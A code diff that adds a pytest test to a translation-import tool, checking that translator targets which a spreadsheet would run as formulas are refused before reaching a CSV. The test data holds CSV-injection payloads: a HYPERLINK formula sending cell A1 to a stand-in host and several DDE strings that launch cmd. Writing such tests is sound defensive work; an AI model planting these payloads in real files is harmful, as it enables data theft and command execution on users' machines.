@@ -296,6 +296,18 @@ def test_hostile_or_stale_xliff_changes_nothing(project, tmp_path, name, xml, me
     assert snapshot(content, templates) == before
 
 
+@pytest.mark.parametrize("target", ['=HYPERLINK("http://x.example/?"&A1,"Taiyuan")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])
+def test_a_formula_for_a_csv_cell_is_refused(project, tmp_path, target):
+    """A translator's target that a spreadsheet would run as a formula never reaches the CSV."""
+    content, templates = project
+    path = tmp_path / "en.xlf"
+    edit_in_cat_tool(content, templates, path, "table.key-projects.kp-01.city", target)
+    before = snapshot(content, templates)
+    with pytest.raises(TranslationError, match=r"table\.key-projects\.kp-01\.city: the target starts with .*: a spreadsheet opening key-projects\.csv would run it as a formula"):
+        import_(path, content, templates)
+    assert snapshot(content, templates) == before
+
+
 def test_stale_units_can_be_skipped(project, tmp_path):
     content, templates = project
     path = tmp_path / "in.xlf"
